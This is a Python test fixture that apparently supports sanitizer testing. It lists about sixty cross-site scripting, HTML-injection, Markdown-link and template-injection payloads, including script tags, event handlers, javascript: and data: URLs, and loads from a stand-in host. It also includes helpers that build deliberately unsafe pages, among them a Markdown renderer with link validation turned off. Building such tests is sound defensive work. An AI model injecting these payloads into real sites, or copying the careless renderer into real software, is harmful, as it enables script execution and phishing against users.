"""Sixty texts that would run, ask another host or change a page if anything took them for more than words.

`wakes` names the mistake that would let one out: a test makes each mistake and sees each of them found. Those that are
`ASLEEP` need a reader that decodes what nobody should decode; they are written all the same.
"""

from dataclasses import dataclass
from html import escape

from jinja2 import Environment
from markdown_it import MarkdownIt

HOST = "foreign.example"
FOREIGN = f"http://{HOST}"
SEVEN = "zq49zq"  # what a template that evaluates the braces below would print

ASLEEP = "nothing"
# A template of a browser or of another engine than ours: it shows in the text as SEVEN, wherever it would run.
ELSEWHERE = "another engine"


@dataclass(frozen=True)
class Payload:
    text: str
    wakes: str

    @property
    def is_line(self) -> bool:
        return "\n" not in self.text


def _all(wakes: str, *texts: str) -> list[Payload]:
    return [Payload(text, wakes) for text in texts]


PAYLOADS = (
    # -- elements that run or load by themselves, where text is printed as markup
    *_all(
        "markup",
        "<script>alert(1)</script>",
        f"<script src={FOREIGN}/a.js></script>",
        "<ScRiPt\n>alert(2)</sCrIpT\t>",
        "<img src=x: onerror=alert(3)>",
        f'<img src="{FOREIGN}/b.png" srcset="{FOREIGN}/c.png 2x">',
        "<svg onload=alert(4)>",
        "<svg/onload=alert&lpar;5&rpar;>",
        "<svg><script>alert&#40;6)</script></svg>",
        "<svg><a xlink:href=javascript:alert(7)><text y=9>go</text></a></svg>",
        "<svg><animate attributeName=x onbegin=alert(8) dur=1s></svg>",
        f"<svg><image href={FOREIGN}/d.svg></image></svg>",
        "<math><mtext><table><mglyph><style><img src=x: onerror=alert(9)></style></mglyph></table></mtext></math>",
        "<body onload=alert(10)>",
        "<input autofocus onfocus=alert(11)>",
        "<details open ontoggle=alert(12)>more</details>",
        "<video src=x: onerror=alert(13)></video>",
        f"<audio autoplay src={FOREIGN}/e.ogg></audio>",
        f"<iframe src={FOREIGN}/f></iframe>",
        '<iframe srcdoc="<script>parent.alert(14)</script>"></iframe>',
        "<iframe src=javascript:alert(15)></iframe>",
        f"<object data={FOREIGN}/g></object>",
        f"<embed src={FOREIGN}/h>",
        f"<base href={FOREIGN}/>",
        f'<meta http-equiv=refresh content="0;url={FOREIGN}/i">',
        f"<link rel=stylesheet href={FOREIGN}/j.css>",
        f"<style>@import '{FOREIGN}/k.css'; body {{ background: url({FOREIGN}/l) }}</style>",
        f'<p style="background:url({FOREIGN}/m)">words</p>',
        f"<form action={FOREIGN}/n><button>Sign in</button></form>",
        f"<button form=f formaction={FOREIGN}/o>Save</button>",
        "<a href=javascript:alert(16)>here</a>",
        "<a href='java&#x09;script:alert(17)'>here</a>",
        "<a href=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
        "&colon;alert(18)>here</a>",
        "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg>here</a>",
        "<noscript><p title='</noscript><img src=x: onerror=alert(19)>'>",
        "<template><img></template><img src=x: onerror=alert(20)>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=alert(21)>",
        "<title><p id='</title><img src=x: onerror=alert(22)>'>",
        "</textarea><img src=x: onerror=alert(23)>",
        "<!--><img src=x: onerror=alert(24)>-->",
        "<![CDATA[><img src=x: onerror=alert(25)>]]>",
    ),
    # -- out of an attribute
    *_all("double quotes", '" autofocus onfocus=alert(26) x="', '"><img src=x: onerror=alert(27)>'),
    *_all("single quotes", "' autofocus onfocus='alert(28)"),
    *_all("no quotes", "x autofocus onfocus=alert(29)"),
    # -- as an address
    *_all(
        "address",
        "javascript:alert(30)",
        "\x01JaVa\tScRiPt:alert(31)",
        "vbscript:msgbox(32)",
        "data:text/html,<script>alert(33)</script>",
    ),
    # -- through Markdown
    *_all(
        "Markdown",
        "[go](javascript:alert(34))",
        f"![seen]({FOREIGN}/p.png)",
        "[go][later]\n\n[later]: <javascript:alert(35)> 'x\" onmouseover=alert(36)'",
        "<javascript:alert(37)>",
        "[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg)",
        "- item\n\n  <img src=x: onerror=alert(38)>",
    ),
    # -- out of the data of a page
    *_all(
        "data",
        '</script><script>alert(39)</script><script type="',
        "<!--</script><img src=x: onerror=alert(40)>",
    ),
    # -- template braces, of this engine and of others
    *_all("template", "zq{{7*7}}zq", "zq{% set x = 7*7 %}{{ x }}zq"),
    *_all(ELSEWHERE, "zq${7*7}zq <%= 7*7 %> #{7*7} *{7*7} @(7*7)"),
    # -- odd separators and encodings
    *_all(
        ASLEEP,
        "+ADw-script+AD4-alert(41)+ADw-/script+AD4- \u2028alert(42)\u2029//\uff1cscript\uff1ealert(43) \u013cscript",
    ),
)  # fmt: skip


def by_mistake(payload: Payload) -> str:
    """A page that makes the mistake that would wake this one."""
    text = payload.text
    made = {
        "markup": text,
        "double quotes": f'<input value="{text}">',
        "single quotes": f"<input value='{text}'>",
        "no quotes": f"<input value={text}>",
        "address": f'<a href="{escape(text)}">here</a>',
        "data": f'<script type="application/ld+json">{{"name": "{text}"}}</script>',
    }
    if payload.wakes == "Markdown":
        return _careless_markdown(text)
    if payload.wakes == "template":
        return Environment(autoescape=True).from_string(text).render()
    if payload.wakes == ELSEWHERE:
        return text.replace("${7*7}", "49")
    return made.get(payload.wakes, text)


def _careless_markdown(text: str) -> str:
    parser = MarkdownIt("commonmark", {"html": True})
    parser.validateLink = lambda url: True  # type: ignore[method-assign]
    return str(parser.render(text))
